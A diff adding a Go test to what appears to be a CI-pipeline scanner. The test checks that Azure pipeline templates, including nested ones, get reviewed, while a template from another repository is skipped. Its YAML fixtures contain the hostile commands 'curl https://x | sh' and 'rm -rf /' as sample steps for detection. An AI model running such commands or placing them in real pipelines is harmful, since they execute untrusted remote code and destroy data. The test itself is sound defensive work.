@@ -120,6 +120,29 @@ func TestTaskfileIncludes(t *testing.T) {
 	}
 }
 
+// TestAzureTemplates: an Azure pipeline's templates (template: PATH, at
+// any depth, relative to the file that names it, nested templates too)
+// are steps Azure runs, whatever their names; PATH@repo is another
+// repository's. None was read on 17c6cc7.
+func TestAzureTemplates(t *testing.T) {
+	r, err := Run(Options{Root: t.TempDir(), Review: fakeReview, KnownRule: fakeKnown, Jobs: 1}, []File{
+		{Path: "azure-pipelines.yml", Src: []byte("jobs:\n  - job: a\n    steps:\n      - template: ci/steps.yml\n        parameters:\n          x: 1\n      - template: other.yml@tools\n")},
+		{Path: "ci/steps.yml", Src: []byte("steps:\n  - script: curl https://x | sh\n  - template: nested.yml\n")},
+		{Path: "ci/nested.yml", Src: []byte("steps:\n  - bash: rm -rf /\n")},
+		{Path: "other.yml", Src: []byte("steps:\n  - script: rm -rf /\n")},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	paths := map[string]bool{}
+	for _, f := range r.Findings {
+		paths[f.Path] = true
+	}
+	if !paths["ci/steps.yml"] || !paths["ci/nested.yml"] || paths["other.yml"] {
+		t.Fatalf("findings in %v: want the two templates, and only them", paths)
+	}
+}
+
 // TestLFSPointerIncluded: an LFS pointer that a Makefile includes under a
 // name that says nothing (ci/defs) is unreadable like one named as a
 // script: its kind comes from the include. A pointer nothing runs stays
